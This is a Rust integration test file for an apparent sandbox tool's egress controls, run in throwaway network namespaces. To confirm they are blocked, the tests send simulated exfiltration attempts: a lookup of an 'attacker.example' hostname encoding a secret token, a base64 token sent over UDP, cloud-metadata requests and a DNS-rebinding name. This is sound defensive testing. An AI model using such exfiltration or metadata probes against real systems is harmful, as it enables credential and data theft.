//! Egress by destination (issue 13): the policy section, `check`'s egress plan, the
//! mechanism in test-made namespaces, and `clawjail run` itself (supervisor included)
//! inside a network and mount namespace each test makes, with its own "internet"
//! (`run_*` tests below). The pure parts (address ranges, DNS responder, relay decisions)
//! are unit-tested beside their code in src/egress/.

use std::process::Command;

use crate::util::*;

const EGRESS: &str = "\n[egress]\ndomains = [\"api.example.com\", \"*.discord.gg\"]\nports = [443]\nhost_services = [\"127.0.0.1:11434\"]\n";

/// `inbound`'s host port is the lock between instances (each gateway has its own
/// namespace, so its own bind no longer fails): a taken host port refuses the launch with
/// exit 125 and the target never runs. The control run (same policy, no [egress]) shows
/// the probe does run.
#[test]
fn run_refuses_a_taken_inbound_port_and_the_target_never_runs() {
    let s = Scratch::new("egress-refuse");
    s.dir("out", 0o777, None);
    let marker = s.join("out/ran");
    let m = marker.to_str().unwrap();
    let base = base_policy(&[], &[s.join("out").to_str().unwrap()]);

    let control = s.file("control.toml", &base, 0o644);
    let o = run_probe(&control, "touch", &[m]);
    assert_eq!(o.status.code(), Some(0), "control: {}", stderr(&o));
    assert!(marker.exists(), "control: the probe did not run");
    std::fs::remove_file(&marker).unwrap();

    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port();
    let pol = s.file(
        "egress.toml",
        &format!("{base}{EGRESS}inbound = [\"127.0.0.1:{port}\"]\n"),
        0o644,
    );
    let o = run_probe(&pol, "touch", &[m]);
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(&format!(
            "egress.inbound: cannot listen on 127.0.0.1:{port}"
        )),
        "{}",
        stderr(&o)
    );
    assert!(
        !marker.exists(),
        "the target ran without the egress control"
    );

    drop(taken);
}

/// verify runs a policy with [egress] and says plainly how its egress rows are attempted
/// and what it does not attempt (the rows themselves: tests/it/verify.rs).
#[test]
fn verify_runs_a_policy_with_egress_and_names_what_it_does_not_attempt() {
    let s = Scratch::new("egress-verify");
    let pol = s.policy(&format!("{}{EGRESS}", base_policy(&[], &[])));
    let o = Command::new(clawjail_bin())
        .args(["verify", "--policy"])
        .arg(&pol)
        .output()
        .unwrap();
    assert!(
        stdout(&o).contains("egress: the egress-* rows run each attempt through `clawjail run`")
            && stdout(&o).contains("Allowed names and host_services are not attempted"),
        "{}\n{}",
        stdout(&o),
        stderr(&o)
    );
}

#[test]
fn check_prints_the_egress_plan_or_says_destinations_are_not_controlled() {
    let s = Scratch::new("egress-check");
    let base = base_policy(&[], &[]);
    let without = s.file("without.toml", &base, 0o644);
    let o = Command::new(clawjail_bin())
        .args(["check", "--json", "--policy"])
        .arg(&without)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["egress"]["controlled"], false);
    assert!(v["egress"]["status"]
        .as_str()
        .unwrap()
        .contains("destinations are not controlled"));

    let with = s.file(
        "with.toml",
        &format!("{base}{EGRESS}inbound = [\"127.0.0.1:${{PORT}}\"]\n[vars]\nPORT = \"18789\"\n"),
        0o644,
    );
    let o = Command::new(clawjail_bin())
        .args(["check", "--json", "--policy"])
        .arg(&with)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let e = &v["egress"];
    assert_eq!(e["controlled"], true);
    assert_eq!(
        e["domains"],
        serde_json::json!(["api.example.com", "*.discord.gg"])
    );
    assert_eq!(e["ports"], serde_json::json!([443]));
    assert_eq!(e["host_services"], serde_json::json!(["127.0.0.1:11434"]));
    assert_eq!(e["inbound"][0], "127.0.0.1:18789 -> 127.0.0.1:18789 inside");
    assert!(e["status"].as_str().unwrap().contains("enforced by `run`"));
    // The text form has the section too.
    let o = Command::new(clawjail_bin())
        .args(["check", "--policy"])
        .arg(&with)
        .output()
        .unwrap();
    assert!(
        stdout(&o).contains("[egress]\n  controlled: true"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn bad_egress_entries_are_located() {
    let s = Scratch::new("egress-bad");
    let pol = s.policy("version = 1\n[egress]\nports = [443]\nips = [\"10.0.0.0/8\"]\n");
    let o = Command::new(clawjail_bin())
        .args(["check", "--policy"])
        .arg(&pol)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    let want = format!("{}:4:8: error[ip-not-global]: egress.ips:", pol.display());
    assert!(stderr(&o).contains(&want), "{}", stderr(&o));
}

/// The mechanism end to end, in two network namespaces this test makes (root: one thread
/// each, `unshare(CLONE_NEWNET)`; nothing reaches the host's network):
/// - "internet": AnyIP on lo; an upstream at 93.184.216.34:443 that says who it is;
///   stand-ins for metadata (169.254.169.254:443/80) and a LAN host (10.0.0.1:443) that
///   count connections; a resolver on :53 (the host's resolv.conf nameserver address
///   lands on it) answering api.example.com -> 93.184.216.34 and
///   rebind.example.com -> 169.254.169.254; and the broker, with the host's ordinary
///   getaddrinfo as its upstream lookup.
/// - "target": only lo with AnyIP routes; its capture sockets are made there and passed
///   to the broker over SCM_RIGHTS. The client is unmodified glibc + std sockets.
///
/// Controls: the same client, from the "internet" namespace (no broker in the way),
/// reaches every forbidden stand-in first.
#[test]
fn netns_capture_dns_and_relay_end_to_end() {
    require_root!();
    use clawjail::egress::{
        broker, netns, relay::SystemUpstream, DomainPattern, EgressRules, LogLevel,
    };
    use std::io::{Read, Write};
    use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
    use std::os::fd::AsRawFd;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::{mpsc, Arc, Mutex};
    use std::time::Duration;

    let (to_broker, from_target) = nix::sys::socket::socketpair(
        nix::sys::socket::AddressFamily::Unix,
        nix::sys::socket::SockType::Stream,
        None,
        nix::sys::socket::SockFlag::SOCK_CLOEXEC,
    )
    .unwrap();
    let forbidden_hits = Arc::new(AtomicUsize::new(0));
    let upstream_queries = Arc::new(Mutex::new(Vec::<String>::new()));
    let (ready_tx, ready_rx) = mpsc::channel::<()>();

    // The "internet" and the broker.
    let hits = forbidden_hits.clone();
    let queries = upstream_queries.clone();
    std::thread::spawn(move || {
        netns::unshare_net().unwrap();
        netns::set_up_loopback().unwrap();
        // The public upstream: replies with where it is and what it got.
        let up = std::net::TcpListener::bind("93.184.216.34:443").unwrap();
        std::thread::spawn(move || {
            for s in up.incoming().flatten() {
                let mut s = s;
                let mut got = Vec::new();
                s.read_to_end(&mut got).ok();
                let reply = format!(
                    "upstream {} got: {}",
                    s.local_addr().unwrap(),
                    String::from_utf8_lossy(&got)
                );
                s.write_all(reply.as_bytes()).ok();
            }
        });
        for addr in ["169.254.169.254:443", "169.254.169.254:80", "10.0.0.1:443"] {
            let l = std::net::TcpListener::bind(addr).unwrap();
            let hits = hits.clone();
            std::thread::spawn(move || {
                for s in l.incoming().flatten() {
                    hits.fetch_add(1, Ordering::SeqCst);
                    drop(s);
                }
            });
        }
        // The upstream resolver.
        spawn_test_resolver(
            &[
                ("api.example.com", [93, 184, 216, 34]),
                ("rebind.example.com", [169, 254, 169, 254]),
            ],
            queries.clone(),
        );
        // Controls: without the broker, the same client reaches every forbidden stand-in.
        for addr in ["169.254.169.254:443", "169.254.169.254:80", "10.0.0.1:443"] {
            TcpStream::connect(addr).unwrap_or_else(|e| panic!("control {addr}: {e}"));
        }
        while hits.load(Ordering::SeqCst) < 3 {
            std::thread::sleep(Duration::from_millis(5));
        }
        hits.store(0, Ordering::SeqCst);
        let direct = ("api.example.com", 443)
            .to_socket_addrs()
            .unwrap()
            .collect::<Vec<_>>();
        assert_eq!(
            direct,
            vec!["93.184.216.34:443".parse::<SocketAddr>().unwrap()],
            "control: the test resolver answers"
        );
        queries.lock().unwrap().clear();

        // The broker, with the target's sockets.
        let (tag, fds) = netns::recv_fds(from_target.as_raw_fd(), 8).unwrap();
        assert_eq!((tag, fds.len()), (1, 3));
        let mut fds = fds.into_iter();
        let sockets = broker::BrokerSockets {
            dns_udp: vec![std::net::UdpSocket::from(fds.next().unwrap())],
            dns_tcp: vec![std::net::TcpListener::from(fds.next().unwrap())],
            capture: vec![std::net::TcpListener::from(fds.next().unwrap())],
            proxy: vec![],
        };
        let rules = EgressRules {
            domains: ["api.example.com", "rebind.example.com"]
                .iter()
                .map(|d| DomainPattern::parse(d).unwrap())
                .collect(),
            ports: [443].into_iter().collect(),
            ips: vec![],
            host_services: vec![],
            log: LogLevel::All,
            // This test's client speaks plain bytes: raw TCP, no name inspection (the
            // SNI/Host tests are egress_names_*).
            protocols: [(443, clawjail::egress::rules::PortKind::Tcp)].into(),
            ..Default::default()
        };
        let b = broker::Broker::new(rules, SystemUpstream);
        ready_tx.send(()).unwrap();
        broker::run_blocking(&b, sockets).ok();
    });

    // The target's namespace: the client.
    let target = std::thread::spawn(move || {
        netns::unshare_net().unwrap();
        let lo = netns::set_up_loopback().unwrap();
        assert!(lo.ipv6, "IPv6 AnyIP route");
        let s = netns::make_broker_sockets(&[443]).unwrap();
        netns::send_fds(
            to_broker.as_raw_fd(),
            1,
            &[
                s.dns_udp[0].as_raw_fd(),
                s.dns_tcp[0].as_raw_fd(),
                s.capture[0].as_raw_fd(),
            ],
        )
        .unwrap();
        drop(s); // the broker holds them now
        ready_rx.recv_timeout(Duration::from_secs(10)).unwrap();

        // Unmodified glibc resolves an allowlisted name to a synthetic address...
        let addrs: Vec<SocketAddr> = ("api.example.com", 443)
            .to_socket_addrs()
            .unwrap()
            .collect();
        assert_eq!(addrs.len(), 1, "{addrs:?}");
        let syn = addrs[0];
        assert!(syn.ip().to_string().starts_with("198.18."), "{syn}");
        // ...and connecting to it reaches the real upstream through the broker.
        let mut c = TcpStream::connect_timeout(&syn, Duration::from_secs(5)).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        c.write_all(b"ping").unwrap();
        c.shutdown(std::net::Shutdown::Write).unwrap();
        let mut got = String::new();
        c.read_to_string(&mut got).unwrap();
        assert_eq!(got, "upstream 93.184.216.34:443 got: ping");

        // Other names do not resolve.
        let e = ("exfil-c2VjcmV0LXRva2Vu.attacker.example", 443)
            .to_socket_addrs()
            .unwrap_err();
        assert!(
            e.to_string().contains("not known") || e.to_string().contains("failure"),
            "{e}"
        );

        // Forbidden destinations on a captured port: accepted by the capture listener,
        // then reset by the broker; nothing arrives at the stand-ins.
        let rebind = ("rebind.example.com", 443)
            .to_socket_addrs()
            .unwrap()
            .next()
            .unwrap();
        for dst in [
            "169.254.169.254:443".parse().unwrap(),
            "10.0.0.1:443".parse().unwrap(),
            "93.184.216.34:443".parse().unwrap(), // an IP literal, not in egress.ips
            "[fd00:ec2::254]:443".parse().unwrap(),
            "[::ffff:169.254.169.254]:443".parse().unwrap(),
            "127.0.0.1:443".parse().unwrap(),
            rebind,
        ] {
            // The reset can win the race with connect's own completion check.
            let mut c = match TcpStream::connect_timeout(&dst, Duration::from_secs(5)) {
                Ok(c) => c,
                Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => continue,
                Err(e) => panic!("{dst}: {e}"),
            };
            c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
            c.write_all(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n").ok();
            let mut buf = Vec::new();
            match c.read_to_end(&mut buf) {
                Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::ConnectionReset, "{dst}: {e}"),
                Ok(_) => assert!(buf.is_empty(), "{dst}: got {buf:?}"),
            }
        }
        // Ports without a capture listener are refused by the namespace's own kernel.
        for dst in ["169.254.169.254:80", "93.184.216.34:8443"] {
            let e = TcpStream::connect_timeout(&dst.parse().unwrap(), Duration::from_secs(5))
                .unwrap_err();
            assert_eq!(e.kind(), std::io::ErrorKind::ConnectionRefused, "{dst}");
        }
        // UDP carrying data to a foreign resolver address reaches no one but the broker's
        // DNS, which answers at most a bare FORMERR header (nothing is forwarded: the
        // upstream resolver's log is checked below); any other UDP port finds no one.
        let u = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
        u.set_read_timeout(Some(Duration::from_millis(300)))
            .unwrap();
        u.send_to(b"c2VjcmV0LXRva2Vu", "8.8.8.8:53").unwrap();
        let mut buf = [0u8; 512];
        if let Ok(n) = u.recv(&mut buf) {
            let m = hickory_proto::op::Message::from_vec(&buf[..n]).unwrap();
            assert_eq!(
                m.metadata.response_code,
                hickory_proto::op::ResponseCode::FormErr
            );
            assert!(m.queries.is_empty() && m.answers.is_empty());
        }
        u.send_to(b"c2VjcmV0LXRva2Vu", "1.2.3.4:443").unwrap();
        assert!(u.recv(&mut buf).is_err());
    });
    target.join().unwrap();
    assert_eq!(
        forbidden_hits.load(Ordering::SeqCst),
        0,
        "a forbidden stand-in was reached"
    );
    let q = upstream_queries.lock().unwrap().clone();
    assert!(
        q.iter()
            .all(|n| n == "api.example.com" || n == "rebind.example.com"),
        "forwarded upstream: {q:?}"
    );
    assert!(
        !q.is_empty(),
        "the broker resolved through the upstream resolver"
    );
}

/// The namespace mechanism for both starts, in the single-threaded probe: as root
/// (CLONE_NEWNET) and as uid 65534 (CLONE_NEWUSER|CLONE_NEWNET mapping its own ids). A
/// connection to a documentation address lands on the capture listener with the original
/// destination as its local address, inside a namespace the probe made (nothing reaches
/// the host's network); another port is refused. Control: uid 65534 without a user
/// namespace cannot make a network namespace at all (EPERM).
#[test]
fn netns_capture_works_for_root_and_unprivileged_starts() {
    require_root!();
    let root = std::process::Command::new(probe())
        .args(["netns-capture", "net", "192.0.2.10", "443"])
        .output()
        .unwrap();
    assert_answer(
        &root,
        "ok captured=[::ffff:192.0.2.10]:443 other_port=ECONNREFUSED ipv6=true",
    );
    let unpriv = bare_probe_as(NOBODY, "netns-capture", &["user", "2001:db8::10", "443"]);
    assert_answer(
        &unpriv,
        "ok captured=[2001:db8::10]:443 other_port=ECONNREFUSED ipv6=true",
    );
    let control = bare_probe_as(NOBODY, "netns-capture", &["net", "192.0.2.10", "443"]);
    assert_answer(&control, "errno EPERM");
}

/// `check` tries the namespace this start would use, in a throwaway child, and says
/// whether it can be made: root (CLONE_NEWNET) and uid 65534 (a user namespace too).
#[test]
fn check_says_whether_the_namespace_can_be_made() {
    require_root!();
    let s = Scratch::new("egress-ns-check");
    let pol = s.policy(&format!("{}{EGRESS}", base_policy(&[], &[])));
    let json = |o: &std::process::Output| -> serde_json::Value {
        assert_eq!(o.status.code(), Some(0), "{}", stderr(o));
        serde_json::from_slice(&o.stdout).unwrap()
    };
    let root = json(
        &Command::new(clawjail_bin())
            .args(["check", "--json", "--policy"])
            .arg(&pol)
            .output()
            .unwrap(),
    );
    let ns = &root["egress"]["namespace"];
    assert_eq!(ns["available"], true, "{ns}");
    assert!(
        ns["kind"].as_str().unwrap().starts_with("CLONE_NEWNET"),
        "{ns}"
    );
    let unpriv = json(
        &Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                clawjail_bin(),
            ])
            .args(["check", "--json", "--policy"])
            .arg(&pol)
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .output()
            .unwrap(),
    );
    let ns = &unpriv["egress"]["namespace"];
    assert_eq!(ns["available"], true, "{ns}");
    assert!(
        ns["kind"]
            .as_str()
            .unwrap()
            .starts_with("CLONE_NEWUSER|CLONE_NEWNET"),
        "{ns}"
    );
}

/// Inbound forwarding keeps the client's address: a host-side connection from 192.0.2.77
/// reaches the "gateway" on 127.0.0.1:P inside the target's namespace as 192.0.2.77, not as
/// a loopback client (OpenClaw auto-approves pairing for loopback). Sockets come from a
/// factory inside the namespace over SCM_RIGHTS. Control: the same forward with a socket
/// bound to 127.0.0.1 is seen as loopback, which is what the binding prevents.
#[test]
fn inbound_forward_preserves_the_client_address() {
    require_root!();
    use clawjail::egress::{inbound, netns};
    use std::io::{Read, Write};
    use std::net::{SocketAddr, TcpListener, TcpStream};
    use std::os::unix::net::UnixStream;
    use std::sync::{mpsc, Arc, Mutex};

    let (factory_end, broker_end) = UnixStream::pair().unwrap();
    let (port_tx, port_rx) = mpsc::channel::<u16>();
    // The target's namespace: a "gateway" that answers with the peer it sees, and the
    // socket factory.
    std::thread::spawn(move || {
        netns::unshare_net().unwrap();
        netns::set_up_loopback().unwrap();
        let gw = TcpListener::bind("127.0.0.1:0").unwrap();
        port_tx.send(gw.local_addr().unwrap().port()).unwrap();
        std::thread::spawn(move || inbound::serve_factory(factory_end));
        for s in gw.incoming().flatten() {
            let mut s = s;
            let peer = s.peer_addr().unwrap();
            s.write_all(peer.ip().to_string().as_bytes()).ok();
        }
    });
    let inside: SocketAddr = ([127, 0, 0, 1], port_rx.recv().unwrap()).into();
    let factory = Arc::new(Mutex::new(broker_end));

    // The host side, itself in a namespace this test made (AnyIP, so 192.0.2.77 can be a
    // client's source and nothing leaves it).
    let seen = std::thread::spawn(move || {
        netns::unshare_net().unwrap();
        netns::set_up_loopback().unwrap();
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let host = tokio::net::TcpListener::bind("198.51.100.1:0")
                .await
                .unwrap();
            let host_addr = host.local_addr().unwrap();
            let client = std::thread::spawn(move || {
                let s = socket2_connect_from("192.0.2.77", host_addr);
                let mut s = s;
                let mut got = String::new();
                s.read_to_string(&mut got).unwrap();
                got
            });
            let (c, peer) = host.accept().await.unwrap();
            inbound::forward(c, peer, inside, factory.clone())
                .await
                .unwrap();
            let real = tokio::task::spawn_blocking(move || client.join().unwrap())
                .await
                .unwrap();
            // Control: a socket bound to loopback makes the same client look local.
            let fd = {
                let mut chan = factory.lock().unwrap();
                inbound::request_socket(&mut chan, "127.0.0.1".parse().unwrap()).unwrap()
            };
            let s = std::net::TcpStream::from(fd);
            s.set_nonblocking(true).unwrap();
            let mut up = tokio::net::TcpSocket::from_std_stream(s)
                .connect(inside)
                .await
                .unwrap();
            let mut control = String::new();
            tokio::io::AsyncReadExt::read_to_string(&mut up, &mut control)
                .await
                .unwrap();
            (real, control)
        })
    })
    .join()
    .unwrap();
    assert_eq!(seen.0, "192.0.2.77", "the gateway must see the real client");
    assert_eq!(
        seen.1, "127.0.0.1",
        "control: a loopback-bound forward looks local"
    );

    /// A client bound to `src` before connecting (std cannot bind before connect).
    fn socket2_connect_from(src: &str, to: SocketAddr) -> TcpStream {
        use nix::sys::socket::{
            bind, connect, socket, AddressFamily, SockFlag, SockType, SockaddrIn,
        };
        let fd = socket(
            AddressFamily::Inet,
            SockType::Stream,
            SockFlag::SOCK_CLOEXEC,
            None,
        )
        .unwrap();
        let src: std::net::SocketAddrV4 = format!("{src}:0").parse().unwrap();
        bind(std::os::fd::AsRawFd::as_raw_fd(&fd), &SockaddrIn::from(src)).unwrap();
        let SocketAddr::V4(to) = to else { panic!() };
        connect(std::os::fd::AsRawFd::as_raw_fd(&fd), &SockaddrIn::from(to)).unwrap();
        TcpStream::from(fd)
    }
}
